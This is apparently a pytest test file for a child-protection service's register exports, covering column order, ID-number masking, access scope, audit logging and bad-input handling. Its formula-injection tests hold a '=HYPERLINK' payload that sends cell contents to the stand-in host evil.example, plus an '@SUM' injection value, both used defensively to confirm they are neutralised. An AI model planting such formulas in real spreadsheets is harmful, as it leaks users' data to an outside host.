"""Registers (台账): columns in Chinese order, masking and the stated purpose, scope, the
audit row with its count, bad input, and formula injection."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from childprotect_api.models.audit import AuditEvent
from childprotect_api.services.children import id_numbers
from childprotect_api.services.registers.kinds import REGISTERS
from tests.activities.activity_helpers import ACTIVITIES, activity_body
from tests.agreements import agreement_helpers
from tests.care.care_support import CASES, PAIRINGS, case_body, pairing_body
from tests.conftest import (
    COUNTY,
    COUNTY_OTHER,
    TOWNSHIP,
    VILLAGE,
    VILLAGE_OTHER_COUNTY,
    VILLAGE_OTHER_TOWNSHIP,
)
from tests.factories import make_child
from tests.reports import report_support
from tests.visits.visit_factories import put_visit, registered_child

REGISTERS_URL = "/api/v1/registers"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"点击")'


@pytest.fixture
def settings(settings):  # type: ignore[no-untyped-def]
    # Many exports per test: the export bucket's per-minute limit is not under test here.
    return settings.model_copy(update={"rate_limits": {**settings.rate_limits, "export": 1000}})


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _headers(kind: str) -> list[str]:
    return [c.zh for c in REGISTERS[kind].columns]


def _index(kind: str, key: str) -> int:
    return [c.key for c in REGISTERS[kind].columns].index(key)


async def _export(client, actor, kind: str, **params):  # type: ignore[no-untyped-def]
    return await client.get(f"{REGISTERS_URL}/{kind}", params=params, headers=actor.headers)


async def _audits(session) -> list[AuditEvent]:  # type: ignore[no-untyped-def]
    rows = await session.execute(
        select(AuditEvent)
        .where(AuditEvent.action == "register.export")  # type: ignore[arg-type]
        .order_by(AuditEvent.id)  # type: ignore[arg-type]
    )
    return list(rows.scalars())


@pytest.fixture
async def three_children(session, settings, world):  # type: ignore[no-untyped-def]
    here = await make_child(session, settings, VILLAGE, name="王小明", categories=["orphan"])
    other_township = await make_child(
        session, settings, VILLAGE_OTHER_TOWNSHIP, name="李小红", categories=["left_behind"]
    )
    other_county = await make_child(session, settings, VILLAGE_OTHER_COUNTY, name="赵小刚")
    return here, other_township, other_county


async def test_the_list_names_each_register_and_its_columns(client, world):
    r = await client.get(REGISTERS_URL, headers=world["officer"].headers)
    assert r.status_code == 200, r.text
    kinds = {k["kind"]: k for k in r.json()}
    assert set(kinds) == {
        "children", "visits", "agreements", "pairings", "cases", "activities", "payments",
        "reports",
    }  # fmt: skip
    first = kinds["children"]["columns"][:4]
    assert [(c["key"], c["label_zh"]) for c in first] == [
        ("seq", "序号"), ("township", "乡镇（街道）"), ("village", "村（居）"), ("name", "姓名")
    ]  # fmt: skip
    r = await client.get(REGISTERS_URL, headers=world["supervisor"].headers)
    assert "reports" not in {k["kind"] for k in r.json()}
    assert "payments" in {k["kind"] for k in r.json()}
    r = await client.get(REGISTERS_URL, headers=world["director"].headers)
    assert r.status_code == 403


async def test_children_csv_in_chinese_order_masked_and_audited(
    client, session, settings, world, three_children
):
    r = await _export(client, world["officer"], "children", format="csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = _csv(r.content)
    assert rows[0] == _headers("children")
    names = [row[_index("children", "name")] for row in rows[1:]]
    assert sorted(names) == ["李小红", "王小明"]  # never the other county's child
    assert [row[0] for row in rows[1:]] == ["1", "2"]
    for row in rows[1:]:
        number = row[_index("children", "id_number")]
        assert len(number) == 18 and "*" * 10 in number
    assert r.headers["x-childprotect-row-count"] == "2"
    [event] = await _audits(session)
    assert (event.row_count, event.purpose, event.area_code) == (2, None, COUNTY)
    assert event.resource_type == "register_children"
    assert event.actor_id == world["officer"].id


async def test_a_county_officer_with_a_purpose_sees_id_numbers_in_full(
    client, session, settings, world, three_children
):
    here = three_children[0]
    full = id_numbers.reveal(settings.data_key, here.id_number_enc)
    r = await _export(
        client, world["officer"], "children", format="csv", area=VILLAGE, purpose=" 核对低保名单 "
    )
    assert r.status_code == 200, r.text
    rows = _csv(r.content)
    assert [row[_index("children", "id_number")] for row in rows[1:]] == [full]
    [event] = await _audits(session)
    assert (event.row_count, event.purpose, event.area_code) == (1, "核对低保名单", VILLAGE)
    # Its officers read the purpose in the audit log; auditors do not.
    r = await client.get("/api/v1/audit", headers=world["officer"].headers)
    assert any(e["purpose"] == "核对低保名单" for e in r.json()["items"])
    r = await client.get("/api/v1/audit", headers=world["auditor"].headers)
    exports = [e for e in r.json()["items"] if e["action"] == "register.export"]
    assert exports and all(e["purpose"] is None and e["row_count"] == 1 for e in exports)


@pytest.mark.parametrize(
    ("actor", "purpose", "status", "code"),
    [
        ("supervisor", "核对名单", 403, "role_forbidden"),
        ("officer", "   ", 422, "purpose_required"),
        ("officer", "x" * 501, 422, None),
    ],
)
async def test_a_purpose_only_from_county_officers_and_never_blank(
    client, session, world, three_children, actor, purpose, status, code
):
    r = await _export(client, world[actor], "children", purpose=purpose)
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    if code:
        assert r.json()["code"] == code
    assert await _audits(session) == []


async def test_a_supervisor_exports_their_township_only(client, session, world, three_children):
    r = await _export(client, world["supervisor"], "children", format="csv")
    assert r.status_code == 200, r.text
    rows = _csv(r.content)
    assert [row[_index("children", "name")] for row in rows[1:]] == ["王小明"]
    r = await _export(client, world["supervisor"], "children", area=VILLAGE_OTHER_TOWNSHIP)
    assert r.status_code == 404
    r = await _export(client, world["officer"], "children", area=COUNTY_OTHER)
    assert r.status_code == 404
    r = await _export(client, world["officer"], "children", area="620722100999")
    assert r.status_code == 404
    [event] = await _audits(session)  # refused exports leave no export row
    assert event.row_count == 1


@pytest.mark.parametrize(
    ("actor", "kind"),
    [
        ("director", "children"),
        ("auditor", "children"),
        ("reporter", "visits"),
        ("admin", "children"),
        ("supervisor", "reports"),
    ],
)
async def test_roles_that_may_not_export_get_403(client, world, actor, kind):
    r = await _export(client, world[actor], kind, area=TOWNSHIP)
    assert r.status_code == 403, r.text


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("children", {"format": "pdf"}),
        ("children", {"category": "nobody"}),
        ("visits", {"category": "orphan"}),
        ("visits", {"from": "2026-05-02", "to": "2026-05-01"}),
        ("visits", {"from": "not-a-date"}),
        ("children", {"area": "62072210000"}),
        ("payroll", {}),
    ],
)
async def test_bad_input_is_a_problem_not_a_500(client, session, world, kind, params):
    r = await _export(client, world["officer"], kind, **params)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert await _audits(session) == []


async def test_category_narrows_the_children(client, world, three_children):
    r = await _export(client, world["officer"], "children", format="csv", category="orphan")
    rows = _csv(r.content)
    assert [row[_index("children", "name")] for row in rows[1:]] == ["王小明"]
    assert "孤儿" in rows[1][_index("children", "categories")]


async def test_visits_workbook_holds_text_never_formulas(client, session, settings, world):
    child = await registered_child(session, settings, name=FORMULA)
    await put_visit(client, world["director"], child.id, notes="@SUM(1+1)")
    other = await registered_child(session, settings, VILLAGE_OTHER_COUNTY)
    await put_visit(client, world["director_other_county"], other.id)
    r = await _export(client, world["officer"], "visits")
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == _headers("visits")
    assert len(rows) == 2
    name = rows[1][_index("visits", "child_name")]
    notes = rows[1][_index("visits", "notes")]
    assert (name.value, name.data_type) == (FORMULA, "s")
    assert (notes.value, notes.data_type) == ("@SUM(1+1)", "s")
    assert rows[1][_index("visits", "kind")].value == "入户探访"
    assert rows[1][_index("visits", "visitor")].value == "director"
    r = await _export(client, world["officer"], "visits", format="csv")
    line = _csv(r.content)[1]
    assert line[_index("visits", "child_name")] == "'" + FORMULA
    assert line[_index("visits", "notes")] == "'@SUM(1+1)"
    assert [e.row_count for e in await _audits(session)] == [1, 1]


async def test_the_period_filters_on_the_kinds_date(client, session, settings, world):
    child = await registered_child(session, settings)
    await put_visit(client, world["director"], child.id)
    today = date.today()
    r = await _export(client, world["officer"], "visits", format="csv", to="2020-01-01")
    assert len(_csv(r.content)) == 1
    r = await _export(
        client, world["officer"], "visits", format="csv", **{"from": "2020-01-01"},
        to=str(today.replace(year=today.year + 1)),
    )  # fmt: skip
    assert len(_csv(r.content)) == 2


async def test_every_kind_exports_its_records(client, session, settings, world):
    child = await agreement_helpers.away_child(session, settings, risk_level="orange")
    agreement = await agreement_helpers.make_active(client, world, child.id)
    h = world["supervisor"].headers
    r = await client.post(PAIRINGS, json=pairing_body(child.id), headers=h)
    assert r.status_code == 201, r.text
    r = await client.post(CASES, json=case_body(child.id, summary="父母离异"), headers=h)
    assert r.status_code == 201, r.text
    r = await client.post(ACTIVITIES, json=activity_body(VILLAGE, title=FORMULA), headers=h)
    assert r.status_code == 201, r.text
    await report_support.file(client, world)
    expected = {
        "agreements": ("caregiver_name", "李秀英"),
        "pairings": ("helper_name", "张爱心"),
        "cases": ("summary", "父母离异"),
        "activities": ("title", "'" + FORMULA),
        "reports": (
            "situation",
            "多处损伤、严重营养不良、意识不清，疑似受到家庭暴力、欺凌、虐待、殴打或被人麻醉",
        ),
    }
    for kind, (key, value) in expected.items():
        r = await _export(client, world["officer"], kind, format="csv")
        assert r.status_code == 200, (kind, r.text)
        rows = _csv(r.content)
        assert rows[0] == _headers(kind)
        assert len(rows) == 2, kind
        assert rows[1][_index(kind, key)] == value, kind
    rows = _csv((await _export(client, world["officer"], "agreements", format="csv")).content)
    assert rows[1][_index("agreements", "id")] == agreement["id"]
    for key in ("child_id_number", "guardian_id_number", "caregiver_id_number"):
        assert "*" * 10 in rows[1][_index("agreements", key)]
    counts = {e.resource_type: e.row_count for e in await _audits(session)}
    assert counts == {f"register_{k}": 1 for k in expected}
    # Nothing from another county: its officer's registers are empty.
    for kind in expected:
        r = await _export(client, world["officer_other_county"], kind, format="csv")
        assert len(_csv(r.content)) == 1, kind


async def test_an_unknown_id_is_never_a_register(client, world):
    r = await client.get(f"{REGISTERS_URL}/{uuid.uuid4()}", headers=world["officer"].headers)
    assert r.status_code == 422
